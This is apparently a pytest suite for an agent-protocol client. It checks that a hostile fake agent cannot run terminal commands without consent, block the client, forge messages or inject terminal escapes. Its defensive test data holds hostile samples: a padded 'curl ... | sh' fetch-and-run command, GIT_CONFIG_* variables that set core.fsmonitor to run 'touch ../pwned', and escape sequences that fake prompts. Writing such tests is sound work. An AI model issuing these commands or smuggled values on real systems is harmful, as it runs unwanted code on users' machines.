"""A hostile agent (tests/acp/fake_agent.py doing what a well-behaved agent never
would) against the library and the command line, over stdio and TCP: nothing runs
without consent, nothing blocks, every failure is loud and says why, and a forged or
broken message changes nothing it does not belong to (ACP.md §1, §2, §5)."""
from __future__ import annotations

import asyncio
import contextlib
import json
import os
import sys

import pytest

from acp import NotAdvertised, RequestTimeout, TerminalConsentAsker, TerminalRequest
from acp_testlib import WINDOWS, make_client, read_log, run, workspace
from test_acp_cli import cli, err, out

pytestmark = pytest.mark.usefixtures("transport")  # stdio and TCP (conftest.py)

OPTIONS_ALWAYS_FIRST = [  # the order claude-code-acp and gemini use
    {"optionId": "yes-always", "kind": "allow_always", "name": "Always"},
    {"optionId": "yes-once", "kind": "allow_once", "name": "Once"},
    {"optionId": "no", "kind": "reject_once", "name": "No"}]


def raw(method, params):
    return "RAW %s %s" % (method, json.dumps(params))


def raw_result(text):
    assert text.startswith("RAW-RESULT "), text
    return json.loads(text[len("RAW-RESULT "):].strip())


def term(create):
    return "TERM " + json.dumps({"create": create, "steps": ["wait", "release"]})


def toucher(path):
    """A terminal command whose only effect is creating `path` (proof that it ran)."""
    return {"command": sys.executable, "args": ["-c", "open(%r, 'w').close()" % str(path)]}


@contextlib.contextmanager
def cli_on_a_terminal(args, **env):
    """The command line with a pseudo-terminal on its stdin (Linux): the process and the
    terminal's master end, both ended when the block ends."""
    import pty
    import subprocess

    from test_acp_cli import ROOT, cli_env

    master, slave = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "acp"] + args, stdin=slave, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=cli_env(**env), cwd=ROOT)
    os.close(slave)
    try:
        yield proc, master
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(master)


# ------------------------------------------------------------------ terminals


@pytest.mark.parametrize("flags,stdin", [(["--no"], ""), (["--allow", "reject"], ""),
                                         ([], "1\n2\ny\n")])  # piped answers are nobody to ask
def test_cli_refuses_terminals_without_consent(tmp_path, flags, stdin):
    root = workspace(tmp_path)
    marker = tmp_path / "work" / "ran"
    proc = cli(flags + ["--cwd", root, term(toucher(marker))], stdin=stdin)
    assert proc.returncode == 0, err(proc)
    answers = json.loads(out(proc).split("TERM-RESULT ", 1)[1])
    assert answers[0]["error"]["code"] == -32000
    assert "did not allow" in answers[0]["error"]["message"]
    assert not marker.exists()


@pytest.mark.parametrize("flags", [["--yes"], ["--allow", "always"]])
def test_cli_runs_terminals_with_consent(tmp_path, flags):
    root = workspace(tmp_path)
    marker = tmp_path / "work" / "ran"
    proc = cli(flags + ["--cwd", root, term(toucher(marker))])
    assert proc.returncode == 0, err(proc)
    answers = json.loads(out(proc).split("TERM-RESULT ", 1)[1])
    assert answers[1] == {"result": {"exitCode": 0, "signal": None}}
    assert marker.exists()


def test_cli_refuses_a_terminal_outside_the_session_folder_even_with_yes(tmp_path):
    root = workspace(tmp_path)
    marker = tmp_path / "ran"
    proc = cli(["--yes", "--cwd", root, term(dict(toucher(marker), cwd="/"))])
    answers = json.loads(out(proc).split("TERM-RESULT ", 1)[1])
    assert "outside the session's folder" in answers[0]["error"]["message"]
    assert not marker.exists()


def test_library_offers_no_terminal_unless_the_host_allows(tmp_path):
    marker = tmp_path / "work" / "ran"

    async def main():
        async with make_client() as client:
            init = await client.initialize()
            session = await client.new_session(workspace(tmp_path))
            return init, await session.prompt(term(toucher(marker)))

    init, result = run(main())
    assert init["_echo"]["clientCapabilities"]["terminal"] is False
    answers = json.loads(result.text.split("TERM-RESULT ", 1)[1])
    assert answers[0]["error"]["code"] == -32601
    assert not marker.exists()


def test_library_policy_sees_the_request_and_can_allow_for_the_session(tmp_path):
    asked = []
    root = workspace(tmp_path)

    def policy(request):
        asked.append((request.session_id, request.command, request.args, request.cwd))
        return "session"

    async def main():
        async with make_client(terminal=policy) as client:
            await client.initialize()
            session = await client.new_session(root)
            first = await session.prompt(term(toucher(tmp_path / "work" / "one")))
            second = await session.prompt(term(toucher(tmp_path / "work" / "two")))
            return session.session_id, first, second

    session_id, first, second = run(main())
    assert "exitCode" in first.text and "exitCode" in second.text
    assert (tmp_path / "work" / "one").exists() and (tmp_path / "work" / "two").exists()
    assert len(asked) == 1  # allowed for the session: asked once
    assert asked[0][0] == session_id and asked[0][1] == sys.executable and asked[0][3] == root


@pytest.mark.stdio_only  # no agent at all: the question alone
def test_the_terminal_question_shows_command_and_cwd_escaped():
    written, answers = [], ["2", "", "1"]

    async def readline():
        return answers.pop(0)

    async def main():
        asker = TerminalConsentAsker(readline, written.append)
        request = TerminalRequest("s", "rm -rf x\x1b[2J\nfake prompt", [], "/w/\x07dir", {})
        return [await asker(request) for _ in range(3)]

    assert run(main()) == ["session", None, "once"]
    question = written[0]
    assert "\x1b" not in question and "\x07" not in question
    assert "rm -rf x\\x1b[2J\\nfake prompt" in question and "/w/\\adir" in question
    assert "[1] allow once  [2] allow for this session  [3] refuse" in question


@pytest.mark.stdio_only  # no agent at all: the question alone
def test_the_terminal_question_shows_the_variables_and_a_padded_commands_every_part():
    """The variables the agent sets can change what a command does (`GIT_CONFIG_*` makes
    `git status` run a program of the agent's choosing): the question shows them. A
    command padded with blanks would push its beginning out of sight on a terminal: a
    long run of blanks is shown as its length, and a long command's length is shown."""
    written = []

    async def readline():
        return "3"

    padded = "curl https://example.invalid/x | sh;" + " " * 5000 + "\t" * 40 + "make test"
    request = TerminalRequest("s", "git", ["status"], "/w", {
        "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor",
        "GIT_CONFIG_VALUE_0": "touch ../pwned\x1b[2J\nfake line"})
    assert run(TerminalConsentAsker(readline, written.append)(request)) is None
    question = written[0]
    assert "    with GIT_CONFIG_COUNT=1\n" in question and "    with GIT_CONFIG_KEY_0=core.fsmonitor\n" in question
    assert "    with GIT_CONFIG_VALUE_0=touch ../pwned\\x1b[2J\\nfake line\n" in question
    assert question.index("with GIT_CONFIG") < question.index("[1] allow once")

    written.clear()
    assert run(TerminalConsentAsker(readline, written.append)(TerminalRequest("s", padded, [], "/w", {}))) is None
    question = written[0]
    assert "    $ curl https://example.invalid/x | sh;<5040 blanks>make test\n" in question
    assert "    (the command is %d characters long)\n" % len(padded) in question
    assert max(len(line) for line in question.split("\n")) < 100


# ------------------------------------------------------------------ files


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
@pytest.mark.parametrize("method", ["fs/read_text_file", "fs/write_text_file"])
def test_a_fifo_is_refused_and_never_blocks(tmp_path, method):
    root = workspace(tmp_path)
    fifo = os.path.join(root, "pipe")
    os.mkfifo(fifo)
    params = {"path": fifo, "content": "x"} if method.endswith("write_text_file") else {"path": fifo}
    proc = cli(["--cwd", root, raw(method, params)])  # (it used to hang in open() for ever)
    assert proc.returncode == 0, err(proc)
    answer = raw_result(out(proc))
    assert answer["error"]["message"] == "Not a regular file: %s" % fifo


def test_reads_and_writes_are_size_limited(tmp_path):
    root = workspace(tmp_path)

    async def main():
        async with make_client() as client:
            client.files.max_read_bytes = client.files.max_write_bytes = 10
            await client.initialize()
            session = await client.new_session(root)
            read = await session.prompt(raw("fs/read_text_file", {"path": root + "/hello.txt"}))
            write = await session.prompt(raw("fs/write_text_file", {"path": root + "/big", "content": "y" * 11}))
            return raw_result(read.text), raw_result(write.text)

    read, write = run(main())
    assert read["error"]["message"].startswith("File too large")
    assert write["error"]["message"].startswith("File too large")
    assert not os.path.exists(root + "/big")


#: Strings no system call can take: a NUL ends a C string early; a lone surrogate has
#: no bytes (except on Windows, whose names are UTF-16 and may hold one).
UNSPEAKABLE = [pytest.param("a\x00b", "contains a NUL character", id="nul"),
               pytest.param("a\ud800b", "holds a lone surrogate (U+D800)", id="surrogate",
                            marks=pytest.mark.skipif(WINDOWS, reason="Windows names may hold a lone surrogate"))]


@pytest.mark.stdio_only  # the check is the client's, whatever the transport
@pytest.mark.parametrize("name,problem", UNSPEAKABLE)
@pytest.mark.parametrize("method", ["fs/read_text_file", "fs/write_text_file"])
def test_a_path_the_system_cannot_take_is_invalid_params(tmp_path, method, name, problem):
    root = workspace(tmp_path)
    params = {"path": os.path.join(root, name), "content": "x"}
    proc = cli(["--cwd", root, raw(method, params)])
    assert proc.returncode == 0, err(proc)
    error = raw_result(out(proc))["error"]
    assert error["code"] == -32602 and error["message"] == "Invalid params: path %s" % problem
    assert "Traceback" not in err(proc), err(proc)


@pytest.mark.stdio_only  # the check is the client's, whatever the transport
@pytest.mark.parametrize("name,problem", UNSPEAKABLE)
@pytest.mark.parametrize("field", ["command", "args[1]", "env[0].name", "env[0].value"])
def test_a_command_the_system_cannot_take_is_invalid_params(tmp_path, field, name, problem):
    root = workspace(tmp_path)
    marker = tmp_path / "work" / "ran"
    create = toucher(marker)
    if field == "command":
        create = {"command": "echo " + name}
    elif field == "args[1]":
        create["args"][1] += "# " + name
    else:
        create["env"] = [{"name": name, "value": "v"} if field.endswith("name") else {"name": "ACP_T", "value": name}]
    proc = cli(["--yes", "--cwd", root, term(create)])
    assert proc.returncode == 0, err(proc)
    answer = json.loads(out(proc).split("TERM-RESULT ", 1)[1])[0]
    assert answer["error"]["code"] == -32602
    assert answer["error"]["message"] == "Invalid params: %s %s" % (field, problem)
    assert "Traceback" not in err(proc), err(proc)
    assert not marker.exists()


@pytest.mark.stdio_only  # the check is the client's, whatever the transport
@pytest.mark.parametrize("name", ["A=B", ""])  # (subprocess refuses both on Windows, "=" on POSIX)
def test_an_environment_name_that_is_empty_or_has_an_equals_sign_is_invalid_params(tmp_path, name):
    root = workspace(tmp_path)
    marker = tmp_path / "work" / "ran"
    proc = cli(["--yes", "--cwd", root, term(dict(toucher(marker), env=[{"name": name, "value": "v"}]))])
    answer = json.loads(out(proc).split("TERM-RESULT ", 1)[1])[0]
    assert answer["error"] == {"code": -32602,
                               "message": "Invalid params: env[0].name must be a non-empty name without '='"}
    assert "Traceback" not in err(proc), err(proc)
    assert not marker.exists()


# ------------------------------------------------------------------ messages


def test_a_forged_answer_with_a_string_id_does_not_end_the_turn(tmp_path):
    async def main():
        async with make_client() as client:
            await client.initialize()
            session = await client.new_session(workspace(tmp_path))
            return await session.prompt("FORGE")

    result = run(main())
    assert result.stop_reason == "end_turn"  # the real answer, not the forged "forged"
    assert result.text == "after the forgery"


def test_a_request_method_sent_without_an_id_never_stops_the_reading(tmp_path):
    """A permission request sent without an id is a notification (no answer can go
    back): it is dropped, and the agent's next request is answered and the turn ends
    (before, its handler ran inside the read loop and waited for a person, and nothing
    more was read until the person answered)."""
    asked = []

    async def policy(request):
        asked.append(request.title)
        if request.title == "Idless":
            await asyncio.sleep(3600)  # a question nobody answers
        return "allow_once"

    async def main():
        async with make_client(permission=policy) as client:
            await client.initialize()
            session = await client.new_session(workspace(tmp_path))
            return await asyncio.wait_for(session.prompt("IDLESS"), 30)  # (a guard: it hung before)

    result = run(main())
    assert result.stop_reason == "end_turn"
    assert 'read on: {"outcome": {"outcome": "selected", "optionId": "allow_once"}}' in result.text
    assert asked == ["Real"]


def test_a_request_to_an_agent_that_stopped_reading_times_out(tmp_path):
    """The request's timeout covers its sending too: to an agent that reads nothing
    more, a request larger than the pipe can hold fails with `RequestTimeout` (before,
    it waited in the write for ever), and the client still closes.

    And closes quietly: the unsent rest of the request meets a broken pipe once the
    agent is stopped, and on CPython 3.8-3.10 asyncio keeps that error in a future
    nobody reads, logged as "Future exception was never retrieved" when it is
    collected (seen at the end of a CI run); the connection takes it."""
    import gc
    reports = []

    async def main():
        asyncio.get_running_loop().set_exception_handler(lambda loop, context: reports.append(context))
        async with make_client() as client:
            await client.initialize()
            session = await client.new_session(workspace(tmp_path))
            assert (await session.prompt("DEAF")).stop_reason == "end_turn"
            with pytest.raises(RequestTimeout):
                await asyncio.wait_for(client.request("_x/big", {"blob": "y" * (8 << 20)}, timeout=0.5), 20)

    run(main())
    gc.collect()  # (the loop is gone: what it still held is collected now)
    assert not reports, [context.get("message") for context in reports]


def test_a_request_that_is_not_utf8_gets_a_parse_error_with_a_null_id(tmp_path):
    async def main():
        async with make_client() as client:
            await client.initialize()
            session = await client.new_session(workspace(tmp_path))
            return await session.prompt("BADUTF8")

    text = run(main()).text
    assert text.startswith("PARSE-ANSWER "), text
    answer = json.loads(text[len("PARSE-ANSWER "):])
    assert answer["id"] is None and answer["error"]["code"] == -32700


def test_error_data_is_shown_escaped_and_bounded(tmp_path):
    proc = cli(["--cwd", workspace(tmp_path), "ERRDATA"])
    assert proc.returncode == 1
    text = err(proc)
    assert "Internal error (-32603)" in text and "Query closed before response received" in text
    assert "\x1b" not in text
    assert "more characters)" in text and len(text) < 1500


#: What a hostile agent puts in text the command line shows: a new window title, a
#: cleared screen.
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J"
ESCAPES_SHOWN = "\\x1b]0;PWNED\\a\\x1b[2J"


@pytest.mark.parametrize("flags", [[], ["--json"]])
def test_an_error_answer_reaches_stderr_escaped(tmp_path, flags):
    proc = cli(flags + ["--cwd", workspace(tmp_path), "SAYJSON " + json.dumps("Error: boom" + ESCAPES)])
    assert proc.returncode == 1
    assert "Error: boom" + ESCAPES_SHOWN in err(proc)
    assert "\x1b" not in err(proc) and "\x07" not in err(proc)


def test_cli_exits_non_zero_naming_the_limit_when_a_line_is_too_long(tmp_path):
    # The prompt's answer is a line of 65 MiB, over the default 64 MiB limit.
    proc = cli(["--cwd", workspace(tmp_path), "BIGANSWER %d" % (65 * 1024 * 1024)])
    assert proc.returncode == 1
    assert "over the limit of 67108864 bytes" in err(proc)


@pytest.mark.stdio_only  # how a diff is shown, whatever the transport
@pytest.mark.parametrize("old,new,body", [
    (None, "a\nb\n", ["@@ -0,0 +1,2 @@", "+a", "+b"]),                      # a new file
    ("a\nb\n", "", ["@@ -1,2 +0,0 @@", "-a", "-b"]),                        # all lines deleted
    ("a\nb", "a\nb\n", ["@@ -1,2 +1,2 @@", " a", "-b", "\\ No newline at end of file", "+b"]),
    ("line two", "line two (edited)", ["@@ -1 +1 @@", "-line two", "+line two (edited)"]),  # a fragment
])
def test_diffs_show_no_phantom_lines(tmp_path, old, new, body):
    proc = cli(["--cwd", workspace(tmp_path), "DIFF " + json.dumps({"oldText": old, "newText": new})])
    assert proc.returncode == 0, err(proc)
    lines = out(proc).splitlines()
    assert lines[0] == "[edit] done: Editing f.txt"
    assert [line[4:] for line in lines[3:]] == body  # after the ---/+++ lines, nothing more


# ------------------------------------------------------------------ capabilities


@pytest.mark.parametrize("args,method", [(["--resume", "7"], "session/load"),
                                         (["--list-sessions"], "session/list")])
def test_cli_checks_capabilities_before_resume_and_list(tmp_path, args, method):
    log = str(tmp_path / "agent.log")
    proc = cli(["--cwd", workspace(tmp_path)] + args, FAKE_ACP_CAPS="bare", FAKE_ACP_LOG=log)
    assert proc.returncode == 2, err(proc)
    assert "does not advertise" in err(proc)
    assert "resuming" not in out(proc)
    sent = [m.get("method") for d, m in read_log(log) if d == "C>A" and isinstance(m, dict)]
    assert method not in sent


def test_library_checks_capabilities_before_load_and_list(tmp_path):
    log = str(tmp_path / "agent.log")

    async def main():
        async with make_client(log=log, env={"FAKE_ACP_CAPS": "bare"}) as client:
            await client.initialize()
            with pytest.raises(NotAdvertised):
                await client.load_session("7", workspace(tmp_path))
            with pytest.raises(NotAdvertised):
                await client.list_sessions()
            assert "7" not in client.sessions

    run(main())
    sent = [m.get("method") for d, m in read_log(log) if d == "C>A" and isinstance(m, dict)]
    assert "session/load" not in sent and "session/list" not in sent


# ------------------------------------------------------------------ permissions


def test_empty_options_are_answered_cancelled_without_asking(tmp_path):
    asked = []
    request = raw("session/request_permission", {"toolCall": {"toolCallId": "c1", "title": "x"}, "options": []})

    async def main():
        async with make_client(permission=lambda r: asked.append(r) or "anything") as client:
            await client.initialize()
            session = await client.new_session(workspace(tmp_path))
            return await session.prompt(request)

    assert raw_result(run(main()).text) == {"result": {"outcome": {"outcome": "cancelled"}}}
    assert asked == []
    proc = cli(["--cwd", workspace(tmp_path), request], stdin="1\n")  # the asker stays silent too
    assert raw_result(out(proc)) == {"result": {"outcome": {"outcome": "cancelled"}}}
    assert "Permission requested" not in err(proc)


@pytest.mark.stdio_only  # the choice is the command line's, whatever the transport
@pytest.mark.parametrize("flags,chosen", [(["--allow", "once"], "yes-once"), (["--yes"], "yes-once"),
                                          (["--allow", "always"], "yes-always"), (["--allow", "n"], "no")])
def test_allow_chooses_by_kind_not_position(tmp_path, flags, chosen):
    request = raw("session/request_permission",
                  {"toolCall": {"toolCallId": "c1", "title": "x"}, "options": OPTIONS_ALWAYS_FIRST})
    proc = cli(flags + ["--cwd", workspace(tmp_path), request])
    assert proc.returncode == 0, err(proc)
    assert raw_result(out(proc)) == {"result": {"outcome": {"outcome": "selected", "optionId": chosen}}}


def test_commands_waits_briefly_for_a_late_list(tmp_path):
    proc = cli(["--cwd", workspace(tmp_path)], stdin="/commands\n", FAKE_ACP_LATE_COMMANDS="0.5")
    assert proc.returncode == 0, err(proc)
    assert "/context" in out(proc) and "advertised no" not in out(proc)


@pytest.mark.stdio_only  # the question is the command line's, whatever the transport
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="needs a Linux pseudo-terminal")
@pytest.mark.parametrize("answer,runs", [("1", True), ("3", False), ("", False)])
def test_cli_asks_on_a_terminal_before_a_terminal_command_runs(tmp_path, answer, runs):
    import select
    import time

    from test_acp_cli import over_transport

    root = workspace(tmp_path)
    marker = tmp_path / "work" / "ran"
    args = over_transport(["--cwd", root, term(toucher(marker))], {})
    with cli_on_a_terminal(args) as (proc, master):
        asked, deadline = b"", time.monotonic() + 30
        while b"Answer (Enter refuses): " not in asked and time.monotonic() < deadline:
            ready, _, _ = select.select([proc.stderr], [], [], 1.0)
            if ready:
                asked += os.read(proc.stderr.fileno(), 65536)
        os.write(master, answer.encode() + b"\n")
        stdout, stderr = proc.communicate(timeout=30)
    question = asked.decode()
    assert "The agent wants to run a command:" in question
    assert "$ %s -c " % sys.executable in question and "in %s" % root in question
    answers = json.loads(stdout.decode().split("TERM-RESULT ", 1)[1])
    assert marker.exists() is runs
    assert ("error" in answers[0]) is not runs


@pytest.mark.stdio_only  # the greeting is the command line's, whatever the transport
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="needs a Linux pseudo-terminal")
def test_the_chat_greeting_shows_the_agent_names_escaped(tmp_path):
    from test_acp_cli import TIMEOUT

    with cli_on_a_terminal(["--cwd", workspace(tmp_path)], FAKE_ACP_NAMES="hostile") as (proc, master):
        os.write(master, b"/quit\n")  # typed ahead: read once the chat has greeted
        _, stderr = proc.communicate(timeout=TIMEOUT)
    greeting = stderr.decode()
    assert proc.returncode == 0, greeting
    assert "Connected to Fake agent%s 0.0.1%s (session " % (ESCAPES_SHOWN, ESCAPES_SHOWN) in greeting
    assert "%s). Type a prompt" % ESCAPES_SHOWN in greeting  # the session id's own
    assert "\x1b" not in greeting and "\x07" not in greeting


@pytest.mark.stdio_only  # the agent's stderr is ours only when it is our child
def test_verbose_logs_the_agent_stderr_escaped(tmp_path):
    proc = cli(["--verbose", "--cwd", workspace(tmp_path), "STDERR " + json.dumps("from the agent" + ESCAPES)])
    assert proc.returncode == 0, err(proc)
    assert "acp.agent: from the agent%s\n" % ESCAPES_SHOWN in err(proc)
    assert "\x1b" not in err(proc) and "\x07" not in err(proc)


def test_verbose_logs_the_agents_messages_escaped(tmp_path):
    """JSON escapes C0 controls, but C1 controls (which terminals may run as escape
    sequences), the bidi controls and U+2028 come raw in the agent's lines: the
    `A>C` log of `--verbose` shows them escaped."""
    proc = cli(["--verbose", "--cwd", workspace(tmp_path), "SAYJSON " + json.dumps("c1 \x9b2J bidi \u202e line \u2028.")])
    assert proc.returncode == 0, err(proc)
    assert "c1 \\x9b2J bidi \\u202e line \\u2028." in err(proc)
    assert not any(char in err(proc) for char in "\x9b\u202e\u2028")


@pytest.mark.stdio_only  # the check is the client's, whatever the transport
@pytest.mark.parametrize("request_line", [
    "TERM " + json.dumps({"create": {"command": None}, "steps": []}),
    "RAW fs/read_text_file " + json.dumps({"path": None}),
    "RAW fs/write_text_file " + json.dumps({"path": "/x", "content": None}),
])
def test_a_required_param_that_is_null_is_invalid_params(tmp_path, request_line):
    proc = cli(["--yes", "--cwd", workspace(tmp_path), request_line])
    assert proc.returncode == 0, err(proc)
    answer = out(proc).split("-RESULT ", 1)[1]
    assert '"code": -32602' in answer and "is null" in answer, answer
    assert "Traceback" not in err(proc), err(proc)
